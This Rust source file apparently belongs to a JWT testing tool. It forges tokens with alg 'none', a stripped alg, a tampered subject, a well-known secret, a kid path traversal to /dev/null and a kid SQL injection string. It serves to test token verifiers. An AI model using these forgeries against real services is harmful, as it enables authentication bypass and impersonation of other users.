//! Forgeries that whoever holds a token can make without the target's key.

use model::key::{Algorithm, Family};
use model::secret::Secret;
use serde_json::{Map, Value};

use crate::ForgeError;
use crate::key::Signer;
use crate::mint::naming;
use crate::sign::sign;
use crate::token::Token;

/// The header names an algorithm that signs nothing, and nothing is signed (RFC 7519 6.1).
pub(crate) fn unsecured(token: &Token, alg: &str) -> Option<String> {
    let header = naming(&token.header, alg);
    let original = header == token.header && token.signature.is_empty();
    (!original).then(|| format!("{}.", token.input_with(&header, &token.payload)))
}

/// It names no algorithm at all, and nothing is signed (RFC 7515 4.1.1 demands one).
pub(crate) fn without_alg(token: &Token) -> Option<String> {
    let mut header = token.header.clone();
    header.retain(|member, _| member != "alg");
    Some(format!("{}.", token.input_with(&header, &token.payload)))
}

/// The header says that nothing is signed, and the old signature is still there: for who only looks
/// whether there is one.
pub(crate) fn unsecured_but_signed(token: &Token) -> Option<String> {
    let [_, _, signature] = token.segments();
    let input = token.input_with(&naming(&token.header, "none"), &token.payload);
    (!signature.is_empty()).then(|| format!("{input}.{signature}"))
}

pub(crate) fn tampered(token: &Token) -> Option<String> {
    const ADDED: &str = "gateproof";
    let mut payload = token.payload.clone();
    match payload.get_mut("sub") {
        Some(subject) => *subject = another(subject),
        None => {
            let added = payload.get(ADDED) != Some(&Value::Bool(true));
            payload.insert(ADDED.to_owned(), Value::Bool(added));
        }
    }
    let input = token.input_with(&token.header, &payload);
    Some(format!("{input}.{}", token.segments()[2]))
}

/// Signed with a secret that everybody knows. It is the original again when the target uses that
/// secret, and is then rightly accepted.
pub(crate) fn known(token: &Token, secret: &str) -> Result<String, ForgeError> {
    shared(token, token.header.clone(), secret)
}

/// `kid` leads to an empty file, whose content is the key of who reads it (RFC 8725 3.10).
pub(crate) fn kid_traversal(token: &Token) -> Result<String, ForgeError> {
    under_kid(token, "../../../../../../../../dev/null", "")
}

/// `kid` is put into an SQL query, and makes it yield the key (RFC 8725 3.10).
pub(crate) fn kid_injection(token: &Token) -> Result<String, ForgeError> {
    let kid = "gateproof' UNION SELECT 'gateproof'-- ";
    under_kid(token, kid, "gateproof")
}

/// Signed with a secret that whoever follows `kid` will find.
fn under_kid(token: &Token, kid: &str, secret: &str) -> Result<String, ForgeError> {
    let mut header = token.header.clone();
    header.insert("kid".to_owned(), Value::from(kid));
    shared(token, header, secret)
}

/// Signed by the HMAC that the token itself has, else by HS256: all else would be refused for that.
fn shared(token: &Token, header: Map<String, Value>, secret: &str) -> Result<String, ForgeError> {
    let alg = token.algorithm().and_then(Algorithm::named);
    let alg = alg.filter(|alg| alg.family() == Family::Hmac);
    let alg = alg.unwrap_or(Algorithm::HS256);
    let input = token.input_with(&naming(&header, alg.name()), &token.payload);
    sign(&input, alg, &Signer::Secret(Secret::new(secret)))
}

/// Another subject of the same shape where there is one, so that a UUID stays a UUID and is not
/// refused for its looks.
fn another(subject: &Value) -> Value {
    match subject {
        Value::String(text) => Value::from(another_text(text)),
        Value::Number(number) => match number.as_u64() {
            Some(id) => Value::from(id ^ 1),
            None => Value::from(0),
        },
        _ => Value::from("0"),
    }
}

/// Another text of the same length and kind, where there is one.
pub(crate) fn another_text(text: &str) -> String {
    let mut text = text.to_owned();
    let last = text.pop();
    match last {
        Some('0') => text.push('1'),
        Some('0'..='9') => text.push('0'),
        Some('a') => text.push('b'),
        Some('a'..='z') => text.push('a'),
        Some('A') => text.push('B'),
        Some('A'..='Z') => text.push('A'),
        other => text.extend(other.into_iter().chain(['0'])),
    }
    text
}
